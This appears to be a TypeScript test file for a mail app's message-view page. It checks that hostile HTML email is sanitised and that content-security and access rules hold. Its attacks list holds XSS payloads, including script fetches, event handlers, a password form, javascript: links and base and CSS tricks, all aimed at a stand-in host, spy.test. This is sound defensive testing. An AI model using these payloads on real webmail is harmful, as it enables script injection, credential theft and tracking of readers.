/** The page of a message with its pictures: whoever may read the message gets it, and a hostile mail does nothing in it. */
import { sql } from 'kysely'
import { beforeAll, describe, expect, test } from 'vitest'
import type { Role } from '#domain/access/roles.ts'
import { type MadeDeal, makeDeal } from '#server/resources/deals/deal.factory.ts'
import { type TestApp, type TestUser, testApp } from '#server/testing/app.ts'

let it: TestApp
let people: Record<Role, TestUser>
let deal: MadeDeal
let threadId: number

beforeAll(async () => {
  it = await testApp()
  people = await it.company()
  deal = await makeDeal(it.app.services, { userId: people['TO/Agent'].id, dealStatus: 'in-progress' })
  const { rows } = await sql<{ id: number }>`
    insert into inbox_threads ("dealId", user_company_id, "userId", subject, "counterpartKind", "counterpartName")
    values (${deal.id}, ${people['TO/Agent'].companyId}, ${people['TO/Agent'].id}, 'Terms', 'lender', 'Ines')
    returning id`.execute(it.app.services.db)
  threadId = rows[0]?.id ?? 0
})

let counter = 0
/** Kept as it is: as if what cleans mail when it comes had let everything pass. */
async function keepMessage(body: string, verdict: 'pass' | 'fail' = 'pass'): Promise<number> {
  counter += 1
  const { rows } = await sql<{ id: number }>`
    insert into inbox_messages ("threadId", user_company_id, direction, "messageId", print, "fromName", "fromEmail",
      subject, body, text, "receivedAt", verdict)
    values (${threadId}, ${people['TO/Agent'].companyId}, 'in', ${`<frame-${counter}@lender.test>`}, ${`frame-${counter}`},
      'Ines', 'ines@lender.test', 'Terms', ${body}, 'Terms', app_now(), ${verdict}) returning id`.execute(
    it.app.services.db,
  )
  return rows[0]?.id ?? 0
}

const addressOf = async (person: TestUser, id: number, whole = true) =>
  (await person.get<{ url: string }>(`/inbox/${id}/frame?whole=${whole}`)).body.url

/** As a browser opens it: by the address alone. */
const openFrame = (url: string) => it.app.inject({ url })

const attacks: readonly (readonly [string, string])[] = [
  ['a script', '<script>fetch("https://spy.test")</script>'],
  ['a handler', '<img src="https://pictures.test/a.png" onerror="steal()"><p onclick="steal()">x</p>'],
  ['a form', '<form action="https://spy.test"><input name="password"><button>Go</button></form>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://spy.test">'],
  ['an address in CSS', '<p style="background:url(https://spy.test/1)">x</p><style>@import "https://spy.test"</style>'],
  ['an SVG', '<svg onload="steal()"><image href="https://spy.test/2"/></svg>'],
  ['a prefetch', '<link rel="prefetch" href="https://spy.test/3"><link rel="dns-prefetch" href="//spy.test">'],
  ['another base', '<base href="https://spy.test/"><img src="4.png">'],
  [
    'a frame',
    '<iframe src="https://spy.test"></iframe><object data="https://spy.test"></object><embed src="https://spy.test">',
  ],
  ['a picture without https', '<img src="http://spy.test/5.gif"><img src="//spy.test/6.gif">'],
  ['a set of sources', '<img srcset="https://spy.test/7 2x"><picture><source srcset="https://spy.test/8"></picture>'],
  [
    'media',
    '<video src="https://spy.test/9" poster="https://spy.test/10"></video><audio src="https://spy.test"></audio>',
  ],
  ['an address that runs', '<a href="javascript:steal()" ping="https://spy.test">press</a>'],
  ['a page cut open', '</body></html><script>steal()</script><plaintext>'],
]

describe('a hostile mail', () => {
  test.each(attacks)('with %s runs, sends and fetches nothing, and its text can be read', async (_what, html) => {
    const id = await keepMessage(`<p>Good morning</p>${html}`)
    const { statusCode, body } = await openFrame(await addressOf(people['TO/Agent'], id))
    expect(statusCode).toBe(200)
    expect(body).toContain('Good morning')
    const content = body.slice(body.indexOf('<body>'))
    expect(content).not.toMatch(
      /<(script|form|input|button|meta|style|svg|link|base|iframe|object|embed|video|audio|source|plaintext)/i,
    )
    expect(content).not.toMatch(/ on[a-z]+=|javascript:|style=|srcset|ping=|http:\/\//i)
    // Whatever were left of it, the page may fetch pictures by https and nothing else.
    expect(content.match(/spy\.test/g) ?? []).toEqual([])
  })

  test('opens under a policy of its own: no script, no form, no other page around it', async () => {
    const id = await keepMessage('<p>Hello</p>')
    const { headers } = await openFrame(await addressOf(people['TO/Agent'], id))
    const policy = String(headers['content-security-policy']).split('; ')
    expect(policy).toEqual(
      expect.arrayContaining([
        ...["default-src 'none'", 'img-src data: https:', "base-uri 'none'", "form-action 'none'"],
        ...["frame-ancestors 'self'", 'sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox'],
      ]),
    )
    expect(policy.some((part) => part.startsWith('script-src'))).toBe(false)
    expect(headers).toMatchObject({ 'referrer-policy': 'no-referrer', 'cache-control': 'no-store' })
  })
})

test('pictures by https stay, links open elsewhere and tell nobody where from', async () => {
  const id = await keepMessage(
    '<p>See</p><img src="https://pictures.test/a.png" alt="Plan"><a href="https://lender.test">Terms</a>',
  )
  const { body } = await openFrame(await addressOf(people['TO/Agent'], id))
  expect(body).toContain('src="https://pictures.test/a.png"')
  expect(body).toContain('rel="noopener noreferrer"')
})

test('what is quoted is shown when it is asked for', async () => {
  const id = await keepMessage('<p>Anew</p><blockquote><p>Before</p></blockquote>')
  expect((await openFrame(await addressOf(people['TO/Agent'], id, false))).body).not.toContain('Before')
  expect((await openFrame(await addressOf(people['TO/Agent'], id))).body).toContain('Before')
})

describe('the way to it', () => {
  test('is given to those who read the conversation, and to nobody of another company', async () => {
    const id = await keepMessage('<p>Hello</p>')
    const stranger = await it.user('Transaction Only')
    expect((await stranger.get(`/inbox/${id}/frame`)).status).toBe(404)
    expect((await people['Transaction Only'].get(`/inbox/${id}/frame`)).status).toBe(200)
  })

  test('is not given for a false sender', async () => {
    const id = await keepMessage('<p>Hello</p>', 'fail')
    expect((await people['TO/Agent'].get(`/inbox/${id}/frame`)).status).toBe(409)
  })

  test('opens the one message it was given for, whole and unchanged, and not without its ticket', async () => {
    const [id, other] = [await keepMessage('<p>Hello</p>'), await keepMessage('<p>Hello</p>')]
    const url = await addressOf(people['TO/Agent'], id)
    const wrong = [
      url.replace(`/${id}?`, `/${other}?`),
      url.replace(/ticket=.{12}/, 'ticket=view.AAAAAAA'),
      url.split('?')[0] ?? '',
    ]
    for (const each of wrong) expect((await openFrame(each)).statusCode).toBe(404)
  })
})
